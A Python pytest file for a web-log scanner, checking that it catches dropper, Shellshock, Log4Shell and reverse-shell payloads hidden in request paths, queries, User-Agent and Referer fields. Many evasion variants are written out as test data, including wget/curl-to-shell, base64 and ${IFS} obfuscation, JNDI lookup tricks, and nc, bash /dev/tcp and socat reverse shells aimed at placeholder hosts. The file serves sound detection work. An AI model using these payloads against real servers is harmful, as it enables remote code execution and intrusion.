"""Every evasion a dropper uses still yields a finding with the destination and its port,
wherever the payload sits (path, query, User-Agent, Referer), alone or composed."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from conftest import combined_line
from dropscan.formats.logformat import compile_format

COMBINED = compile_format("combined")
HOST, PORT = "198.51.100.10", 8080
URL = f"http://{HOST}:{PORT}/x.sh"
DEST = f"{HOST}:{PORT}"


def _pct(s: str) -> str:
    """One layer of percent-encoding of every byte that is not a letter or digit."""
    return quote(s, safe="")


def _pct_letters(s: str) -> str:
    """Percent-encode every character, letters too (%77%67%65%74)."""
    return "".join(f"%{b:02X}" for b in s.encode())


def _u(s: str) -> str:
    """IIS %uXXXX encoding of every character."""
    return "".join(f"%u{ord(c):04X}" for c in s)


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def _ansi(s: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in s)


def _octal(s: str) -> str:
    return "".join(f"\\{ord(c):03o}" for c in s)


# (name, shell text as the application receives it after its own decoding, extra encoding layers)
SHELL_EVASIONS = [
    ("plain", f"wget {URL}", 0),
    ("double percent-encoding", f"wget {URL}", 2),
    ("triple percent-encoding", f"wget {URL}", 3),
    ("single quotes in the word", f"w'g'e't' {URL}", 0),
    ("double quotes in the word", f'w"ge"t {URL}', 0),
    ("backslashes in the word", f"w\\ge\\t {URL}", 0),
    ("${IFS}", f"wget${{IFS}}{URL}", 0),
    ("$IFS$9", f"wget$IFS$9{URL}", 0),
    ("${IFS%??}", f"wget${{IFS%??}}{URL}", 0),
    ("brace list", f"{{wget,{URL}}}", 0),
    ("newline separator", f"x\nwget {URL}", 0),
    ("backticks", f"`wget {URL}`", 0),
    ("$( )", f"$(wget {URL})", 0),
    ("mixed case", f"WgEt {URL.upper().replace('HTTP', 'hTtP')}", 0),
    ("$'\\x..' escapes", f"$'{_ansi('wget')}' {URL}", 0),
    ("printf with octal escapes", f"$(printf '{_octal('wget')}') {URL}", 0),
    ("echo | base64 -d | sh", f"echo {_b64(f'wget {URL} -O- | sh')} | base64 -d | sh", 0),
    (
        "bash -c {echo,b64}|{base64,-d}|{bash,-i}",
        f"bash -c {{echo,{_b64(f'wget {URL}')}}}|{{base64,-d}}|{{bash,-i}}",
        0,
    ),
    ("curl | bash", f"curl -fsSL {URL} | bash", 0),
    ("wget -qO- | sh", f"wget -qO- {URL}|sh", 0),
    ("composed: quotes + ${IFS} + double encoding", f"w'g'et${{IFS}}{URL}", 2),
    ("composed: backslash + $IFS$9 + brace list + triple encoding", f"{{w\\get,-q,{URL}}}", 3),
]


def _in(where: str, shell: str, layers: int) -> bytes:
    """A combined log line with ``shell`` injected at ``where``, encoded ``layers`` extra times
    on top of the one layer a client needs to send it."""
    payload = shell
    for _ in range(layers):
        payload = _pct(payload)
    if where == "query":
        return combined_line(f"/cgi-bin/ping.cgi?host=127.0.0.1{_pct(';' + payload)}")
    if where == "path":
        return combined_line(f"/cgi-bin/status/{_pct(';' + payload)}")
    if where == "user_agent":
        return combined_line("/", ua=f"() {{ :; }}; {payload}")
    return combined_line("/", referer=f"http://ref.example/?q=x%3B{_pct(payload)}")


def _destinations(scanner, line: bytes) -> set[str]:
    finding, _ = scanner.scan_line(line.rstrip(b"\n"), COMBINED)
    assert finding is not None, line
    return {f"{d.host}:{d.port}" for d in finding.egress}


@pytest.mark.parametrize("where", ["query", "path", "user_agent", "referer"])
@pytest.mark.parametrize(("name", "shell", "layers"), SHELL_EVASIONS, ids=[e[0] for e in SHELL_EVASIONS])
def test_dropper_evasion_yields_the_destination(full_scanner, name, shell, layers, where):
    line = _in(where, shell, layers)
    assert DEST in _destinations(full_scanner, line), name
    finding, _ = full_scanner.scan_line(line.rstrip(b"\n"), COMBINED)
    assert finding.severity == "critical"


@pytest.mark.parametrize(
    ("name", "encode"),
    [("percent-encoded letters", _pct_letters), ("%uXXXX", _u)],
)
def test_letters_encoded_one_by_one(full_scanner, name, encode):
    line = combined_line("/x.php?c=" + encode(f";wget {URL}"))
    assert DEST in _destinations(full_scanner, line), name


LDAP = "198.51.100.11"
LOG4SHELL = [
    ("plain", f"${{jndi:ldap://{LDAP}:1389/a}}", f"{LDAP}:1389"),
    ("${lower:j}", f"${{${{lower:j}}ndi:ldap://{LDAP}:1389/a}}", f"{LDAP}:1389"),
    ("${upper:...}", f"${{${{upper:j}}${{upper:n}}di:ldap://{LDAP}:1389/a}}", f"{LDAP}:1389"),
    ("${::-j}${::-n}", f"${{${{::-j}}${{::-n}}di:rmi://{LDAP}:1099/o}}", f"{LDAP}:1099"),
    (
        "${env:NaN:-j}",
        f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{LDAP}:1389/b}}",
        f"{LDAP}:1389",
    ),
    ("nested lower inside lower", f"${{${{lower:${{lower:jndi}}}}:ldap://{LDAP}/c}}", f"{LDAP}:389"),
    ("scheme obfuscated", f"${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{LDAP}:1389/d}}", f"{LDAP}:1389"),
    ("dns scheme", f"${{jndi:dns://{LDAP}/q}}", f"{LDAP}:53"),
    ("JSON \\u escapes", f"\\u0024{{jndi:ldap://{LDAP}:1389/e}}", f"{LDAP}:1389"),
]


@pytest.mark.parametrize("where", ["query", "path", "user_agent", "referer"])
@pytest.mark.parametrize("encoded", [False, True], ids=["raw", "url-encoded"])
@pytest.mark.parametrize(("name", "lookup", "dest"), LOG4SHELL, ids=[e[0] for e in LOG4SHELL])
def test_log4shell_evasion_yields_the_destination(full_scanner, name, lookup, dest, where, encoded):
    text = _pct(lookup) if encoded else lookup
    if where == "query":
        line = combined_line("/?x=" + (text if encoded else _pct(lookup)))
    elif where == "path":
        line = combined_line("/" + (text if encoded else lookup.replace(" ", "%20")))
    elif where == "user_agent":
        line = combined_line("/", ua=text)
    else:
        line = combined_line("/", referer=text)
    assert dest in _destinations(full_scanner, line), name


@pytest.mark.parametrize(
    ("target", "dest"),
    [
        ("/x?c=;nc -e /bin/sh 198.51.100.12 4444", "198.51.100.12:4444"),
        ("/x?c=;bash -i >%26 /dev/tcp/198.51.100.12/443 0>%261", "198.51.100.12:443"),
        ("/x?c=;telnet 198.51.100.12 4444 | /bin/sh | telnet 198.51.100.12 4445", "198.51.100.12:4444"),
        ("/x?c=;busybox tftp -g -r m 198.51.100.12 6969", "198.51.100.12:6969"),
        ("/x?c=;ftpget -P 2121 198.51.100.12 b.sh b.sh", "198.51.100.12:2121"),
        ("/x?c=;lynx -source http://198.51.100.12:81/x > /tmp/x", "198.51.100.12:81"),
        ("/x?c=;fetch -o /tmp/x http://198.51.100.12:82/x", "198.51.100.12:82"),
        ("/x?c=;socat tcp:198.51.100.12:9001 exec:sh", "198.51.100.12:9001"),
        ("/x?c=;curl${IFS}callback.example", "callback.example:80"),
    ],
)
def test_tools_name_their_destination(full_scanner, target, dest):
    assert dest in _destinations(full_scanner, combined_line(target.replace(" ", "%20")))


@pytest.mark.parametrize(
    ("target", "ua", "referer"),
    [
        ("/", "Wget/1.21.3", "-"),
        ("/", "curl/7.88.1", "-"),
        ("/search?q=how+to+use+wget", "Mozilla/5.0", "-"),
        ("/downloads/wget-1.21.tar.gz", "Wget/1.21 (linux-gnu)", "-"),
        ("/out?redirect=https://shop.example/checkout?step=2", "Mozilla/5.0", "-"),
        ("/login?next=https%3A%2F%2Fpartner.example%2F", "Mozilla/5.0", "-"),
        ("/search?q=the+meeting+is+at+noon;+time+is+short", "Mozilla/5.0", "-"),
        ("/blog/a-hero;+more+than+that", "Mozilla/5.0", "-"),
        ("/", "Mozilla/5.0 (Linux; U; Android 4.0.4; id-id; GT-I9300 Build/IMM76D)", "-"),
        ("/", "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119", "-"),
        ("/reset.css", "Mozilla/5.0", "http://www.google.com/url?q=http://example.com/&sa=U"),
    ],
)
def test_benign_lookalikes_are_not_findings(full_scanner, target, ua, referer):
    finding, _ = full_scanner.scan_line(combined_line(target, ua=ua, referer=referer).rstrip(b"\n"), COMBINED)
    assert finding is None, finding and finding.rule_ids
